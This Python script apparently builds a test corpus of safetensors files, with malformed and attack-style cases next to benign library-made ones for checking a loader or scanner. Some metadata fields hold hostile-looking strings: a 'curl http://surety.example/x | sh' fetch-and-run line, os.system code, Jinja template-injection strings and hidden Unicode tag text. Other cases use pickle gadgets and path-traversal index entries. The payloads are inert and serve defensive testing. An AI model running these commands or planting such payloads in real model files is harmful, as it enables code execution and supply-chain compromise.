"""Writes the corpus of safetensors files: malicious ones byte by byte with inert payloads, benign ones by the library.

Needs safetensors 0.8.0, numpy 2.4.6, torch (any 2.x) and ml_dtypes (of tensorflow) for the benign ones.
"""
import base64
import json
import pathlib
import pickle
import shutil
import struct
import zipfile
import io

HERE = pathlib.Path(__file__).resolve().parent
OUT = HERE / "malicious"


class Runs:
    def __reduce__(self):
        return print, ("surety",)


def pack(header, data=b"", length=None, pad=True):
    text = header if isinstance(header, bytes) else json.dumps(header, separators=(",", ":")).encode()
    if pad:
        text += b" " * (-len(text) % 8)
    return struct.pack("<Q", len(text) if length is None else length) + text + data


def t(begin, end, shape=None, dtype="F32"):
    return {"dtype": dtype, "shape": [(end - begin) // 4] if shape is None else shape, "data_offsets": [begin, end]}


def save(name, content):
    path = OUT / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(content)


def malicious():
    shutil.rmtree(OUT, ignore_errors=True)
    four, eight = b"\0" * 4, b"\0" * 8
    plain = {"a": t(0, 4)}
    raw = pickle.dumps(Runs(), 2)
    zipped = io.BytesIO()
    with zipfile.ZipFile(zipped, "w") as archive:
        archive.writestr(zipfile.ZipInfo("archive/data.pkl"), raw)
    files = {
        "length_zero": struct.pack("<Q", 0) + b"{}" + four,
        "length_beyond_file": pack(plain, four, length=1 << 40),
        "length_above_limit": pack(plain, four, length=100_000_001),
        "length_of_all_ones": pack(plain, four, length=(1 << 64) - 1),
        "length_cuts_the_header": pack(plain, four, length=20),
        "metadata_invisible": pack({"__metadata__": {"note": "fine" + "".join(chr(0xE0000 + ord(c)) for c in "obey surety")}, **plain}, four),
        "overlap": pack({"a": t(0, 4), "b": t(0, 4)}, four),
        "partial_overlap": pack({"a": t(0, 8), "b": t(4, 12)}, eight + four),
        "gap_with_payload": pack({"a": t(0, 4), "b": t(4 + len(raw), 8 + len(raw))}, four + raw + four),
        "gap_at_start": pack({"a": t(4, 8)}, eight),
        "trailing_pickle": pack(plain, four + raw),
        "trailing_program": pack(plain, four + b"\x7fELF\x02\x01\x01" + b"\0" * 60),
        "trailing_zip": pack(plain, four + zipped.getvalue()),
        "data_cut_off": pack({"a": t(0, 64)}, four),
        "begin_behind_end": pack({"a": {"dtype": "F32", "shape": [1], "data_offsets": [8, 4]}}, eight),
        "negative_offset": pack({"a": {"dtype": "F32", "shape": [1], "data_offsets": [-4, 0]}}, four),
        "offset_above_63_bits": pack({"a": {"dtype": "F32", "shape": [1], "data_offsets": [0, 1 << 63]}}, four),
        "fractional_offset": pack({"a": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4.5]}}, four),
        "three_offsets": pack({"a": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4, 8]}}, four),
        "shape_overflow": pack({"a": {"dtype": "F32", "shape": [1 << 62, 1 << 62], "data_offsets": [0, 0]}}),
        "shape_wraps_to_size": pack({"a": {"dtype": "F32", "shape": [(1 << 62) + 1], "data_offsets": [0, 4]}}, four),
        "shape_too_large": pack({"a": t(0, 4, [1000])}, four),
        "shape_negative": pack({"a": t(0, 4, [-1, -1])}, four),
        "type_unknown": pack({"a": t(0, 4, dtype="PICKLE")}, four),
        "type_missing": pack({"a": {"shape": [1], "data_offsets": [0, 4]}}, four),
        "type_no_text": pack({"a": {"dtype": 7, "shape": [1], "data_offsets": [0, 4]}}, four),
        "extra_field": pack({"a": {**t(0, 4), "loader": "os.system"}}, four),
        "tensor_is_text": pack({"a": "b"}),
        "duplicate_tensor": pack(b'{"a":{"dtype":"F32","shape":[1],"data_offsets":[0,4]},"a":{"dtype":"F32","shape":[1],"data_offsets":[4,8]}}', eight),
        "duplicate_field": pack(b'{"a":{"dtype":"F32","shape":[1],"shape":[2],"data_offsets":[0,4]}}', four),
        "not_json": pack(b"{a: 1}", four),
        "json_then_more": pack(b'{"a":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}} {"b":1}', four),
        "padded_with_bytes": pack(json.dumps(plain).encode() + b"\0surety\0", four, pad=False),
        "nan_in_header": pack(b'{"a":{"dtype":"F32","shape":[NaN],"data_offsets":[0,4]}}', four),
        "not_utf8": pack(b'{"a\xff":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}}', four),
        "deep_nesting": pack(b'{"a":' + b"[" * 3000 + b"]" * 3000 + b"}", four),
        "metadata_no_text": pack({"__metadata__": {"format": {"x": 1}}, **plain}, four),
        "metadata_list": pack({"__metadata__": ["x"], **plain}, four),
        "metadata_pickle": pack({"__metadata__": {"state": base64.b64encode(pickle.dumps(Runs(), 4)).decode()}, **plain}, four),
        "metadata_pickle_hex": pack({"__metadata__": {"state": pickle.dumps(Runs(), 4).hex()}, **plain}, four),
        "metadata_code": pack({"__metadata__": {"init": "__import__('os').system('echo surety')"}, **plain}, four),
        "metadata_code_encoded": pack({"__metadata__": {"init": base64.b64encode(b"import os\nos.system('echo surety')\n").decode()}, **plain}, four),
        "metadata_script": pack({"__metadata__": {"description": "<script>print('surety')</script>"}, **plain}, four),
        "metadata_shell": pack({"__metadata__": {"setup": "curl http://surety.example/x | sh"}, **plain}, four),
        "metadata_template": pack({"__metadata__": {"chat_template": "{{ cycler.__init__.__globals__.os }}"}, **plain}, four),
        "metadata_template_elsewhere": pack({"__metadata__": {"prompt_format": "{{ ''['__cl' ~ 'ass__'] }}{% set a = '__x' %}"}, **plain}, four),
        "bytes_tensor_pickle": pack({"a": {"dtype": "U8", "shape": [len(raw)], "data_offsets": [0, len(raw)]}}, raw),
        "bytes_tensor_program": pack({"a": {"dtype": "U8", "shape": [96], "data_offsets": [0, 96]}}, b"\x7fELF\x02\x01\x01" + b"\0" * 89),
        "zip_behind_all": pack({"a": {"dtype": "U8", "shape": [len(zipped.getvalue())], "data_offsets": [0, len(zipped.getvalue())]}}, zipped.getvalue()),
    }
    for name, content in files.items():
        save(name + ".safetensors", content)
    for name, target in (("index_leads_up", "../../secrets.safetensors"), ("index_absolute", "/etc/model.safetensors"),
                         ("index_address", "https://surety.example/m.safetensors"), ("index_to_pickle", "pytorch_model.bin")):
        index = {"metadata": {"total_size": 4}, "weight_map": {"a": target}}
        save(f"{name}/model.safetensors.index.json", json.dumps(index, indent=2).encode())


def benign():
    import numpy as np
    import safetensors.numpy as sn
    import safetensors.torch as st
    import torch

    out = HERE / "benign"
    shutil.rmtree(out, ignore_errors=True)
    out.mkdir()
    rng = np.random.default_rng(1)
    torch.manual_seed(1)
    sn.save_file({"weight": rng.standard_normal((4, 3)).astype(np.float32), "bias": np.zeros(4, np.float32)}, out / "numpy_plain.safetensors")
    sn.save_file({"w": np.arange(6, dtype=np.float16)}, out / "numpy_metadata.safetensors", metadata={"format": "np", "author": "someone <a@b.example>", "licence": "MIT"})
    for kind in ("bool", "int8", "uint8", "int16", "uint16", "int32", "uint32", "int64", "uint64", "float16", "float32", "float64", "complex64"):
        sn.save_file({"x": rng.integers(0, 2, 5).astype(kind)}, out / f"numpy_{kind}.safetensors")
    st.save_file({"a": torch.zeros(2, 2, dtype=torch.bfloat16), "b": torch.ones(3)}, out / "torch_bfloat16.safetensors", metadata={"format": "pt"})
    for kind in ("float8_e4m3fn", "float8_e5m2"):
        st.save_file({"a": torch.zeros(16).to(getattr(torch, kind))}, out / f"torch_{kind}.safetensors", metadata={"format": "pt"})
    st.save_file({"empty": torch.zeros(0, 4), "scalar": torch.tensor(1.5), "x": torch.zeros(3)}, out / "torch_empty_and_scalar.safetensors")
    st.save_file({}, out / "no_tensors.safetensors")
    st.save_file({}, out / "only_metadata.safetensors", metadata={"note": "nothing here"})
    model = torch.nn.Sequential(torch.nn.Linear(4, 8), torch.nn.BatchNorm1d(8), torch.nn.Linear(8, 2))
    st.save_model(model, str(out / "torch_model.safetensors"))
    lora = {f"base_model.model.layers.{i}.self_attn.{p}_proj.lora_{ab}.weight": torch.randn(2, 2) for i in range(3) for p in "qv" for ab in "AB"}
    st.save_file(lora, out / "lora_adapter.safetensors", metadata={"format": "pt"})
    st.save_file({"lora_unet_down.alpha": torch.tensor(4.0), "lora_unet_down.lora_down.weight": torch.randn(2, 2)}, out / "diffusion_lora.safetensors",
                 metadata={"ss_base_model_version": "sd_1.5", "ss_network_args": json.dumps({"conv_dim": "4", "rank": {"a": 1}}), "ss_tag_frequency": json.dumps({"1_x": {"a {b}": 3, "{{c}}": 1}}),
                           "ss_training_comment": "eval every 10 steps; see https://example.org/run?id=3", "modelspec.title": "A style", "modelspec.hash_sha256": "0x" + "ab" * 32})
    names = {f"model.層.{i}.überlayer \"{i}\"": torch.tensor([float(i)]) for i in range(5)}
    st.save_file(names, out / "names_of_all_kinds.safetensors")
    st.save_file({f"model.layers.{i}.mlp.weight": torch.zeros(1) for i in range(500)}, out / "many_tensors.safetensors")
    st.save_file({"q": torch.randint(0, 255, (64,), dtype=torch.uint8), "absmax": torch.rand(4), "quant_state": torch.tensor(list(json.dumps({"quant_type": "nf4", "blocksize": 64}).encode()), dtype=torch.uint8)}, out / "quantised_4bit.safetensors")
    # As other writers do: header not padded, spaces within.
    (out / "unpadded.safetensors").write_bytes(pack(b'{"a":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}}', b"\0" * 4, pad=False))
    (out / "spaced.safetensors").write_bytes(pack(b'{ "__metadata__" : {}, "a" : { "shape" : [ 1 ], "dtype" : "F32", "data_offsets" : [ 0, 4 ] } }', b"\0" * 4))
    folder = out / "sharded"
    folder.mkdir()
    st.save_file({"a": torch.zeros(2)}, folder / "model-00001-of-00002.safetensors", metadata={"format": "pt"})
    st.save_file({"b": torch.zeros(2)}, folder / "model-00002-of-00002.safetensors", metadata={"format": "pt"})
    index = {"metadata": {"total_size": 16}, "weight_map": {"a": "model-00001-of-00002.safetensors", "b": "model-00002-of-00002.safetensors"}}
    (folder / "model.safetensors.index.json").write_text(json.dumps(index, indent=2))


if __name__ == "__main__":
    malicious()
    benign()
